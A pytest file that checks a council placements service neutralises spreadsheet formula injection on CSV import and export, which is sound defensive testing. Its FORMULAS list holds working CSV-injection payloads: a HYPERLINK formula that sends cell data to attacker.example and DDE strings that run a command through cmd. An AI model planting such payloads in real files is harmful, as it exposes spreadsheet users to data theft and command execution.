"""No formula comes back out: text a spreadsheet would run is imported with a warning, and every CSV
placements writes holds it as text (a leading single quote, in a quoted cell) that reads back as it was."""

import csv
import io

import pytest
from sqlalchemy import select

from services.placements.app import app as placements_app
from services.placements.models import Worker
from tests.placements.factory import csv_return, person, xml_return

BIRMINGHAM = "330"
FORMULAS = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
RUN_BY_A_SPREADSHEET = ("=", "+", "-", "@", "\t", "\r", "\n")
SECOND_RECORD = {"xml": "/Message/CSWWWorker[2]", "csv": "line 3"}


@pytest.fixture
def placements(app_client):
    return app_client(placements_app)


@pytest.fixture
def hr(auth):
    return auth("council_hr", council=BIRMINGHAM)


def upload(client, headers, data: bytes, name: str = "return.xml", **params):
    return client.post(
        "/v1/placements/imports",
        params={"census_year": 2024, **params},
        files={"file": (name, data)},
        headers=headers,
    )


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def with_formulas() -> list:
    return [person(n, qual_inst=formula) for n, formula in enumerate(FORMULAS, 1)] + [
        person(9, qual_inst="University of Birmingham")
    ]


@pytest.mark.parametrize("kind", ["xml", "csv"])
def test_a_formula_in_a_free_text_field_is_imported_with_a_warning_at_its_place(placements, hr, session, kind):
    records = [person(1), person(2, qual_inst=FORMULAS[1])]
    data = xml_return(2024, BIRMINGHAM, records) if kind == "xml" else csv_return(records)
    answer = upload(placements, hr, data, name=f"return.{kind}")
    assert answer.status_code == 201, answer.text
    warnings = [(w["location"], w["field"], w["value"], w["code"], w["severity"]) for w in answer.json()["warnings"]]
    assert warnings == [(SECOND_RECORD[kind], "QualInst", FORMULAS[1], "formula_like_text", "warning")]
    stored = session.scalar(select(Worker.qual_inst).where(Worker.swe_number == "SW2"))
    assert stored == FORMULAS[1]  # kept as sent: the API's JSON is no spreadsheet


def test_the_census_csv_export_holds_no_cell_a_spreadsheet_would_run(placements, hr):
    assert upload(placements, hr, xml_return(2024, BIRMINGHAM, with_formulas())).status_code == 201
    export = placements.get("/v1/placements/exports/census.csv", params={"census_year": 2024}, headers=hr)
    assert export.status_code == 200
    rows = cells(export.text)
    assert len(rows) == 1 + len(FORMULAS) + 1
    assert [cell for row in rows for cell in row if cell.startswith(RUN_BY_A_SPREADSHEET)] == []
    institutions = {row["SWENo"]: row["QualInst"] for row in csv.DictReader(io.StringIO(export.text, newline=""))}
    assert [institutions[f"SW000000000{n}"] for n in range(1, len(FORMULAS) + 1)] == ["'" + f for f in FORMULAS]
    assert institutions["SW0000000009"] == "University of Birmingham"
    assert "\"'=cmd|' /C calc'!A0\"" in export.text  # quoted, so the cell cannot be split into another


def test_an_exported_census_csv_with_formulas_imports_back_as_the_same_records(placements, hr, session):
    assert upload(placements, hr, xml_return(2024, BIRMINGHAM, with_formulas())).status_code == 201
    export = placements.get("/v1/placements/exports/census.csv", params={"census_year": 2024}, headers=hr)
    again = upload(placements, hr, export.content, name="edited.csv")
    assert again.status_code == 200, again.text
    assert again.json()["status"] == "unchanged"
    assert [w["value"] for w in again.json()["warnings"] if w["code"] == "formula_like_text"] == FORMULAS
    stored = session.scalars(select(Worker.qual_inst).where(Worker.qual_inst.is_not(None)).order_by(Worker.swe_number))
    assert list(stored) == [*FORMULAS, "University of Birmingham"]


def test_the_import_report_csv_holds_the_files_formulas_as_text(placements, hr):
    applied = upload(placements, hr, xml_return(2024, BIRMINGHAM, with_formulas()))
    assert applied.status_code == 201, applied.text
    report = placements.get(f"/v1/placements/imports/{applied.json()['id']}/report.csv", headers=hr)
    assert report.status_code == 200
    rows = cells(report.text)
    assert [cell for row in rows for cell in row if cell.startswith(RUN_BY_A_SPREADSHEET)] == []
    values = [row[2] for row in rows[1:] if row[3] == "formula_like_text"]
    assert values == ["'" + formula for formula in FORMULAS]
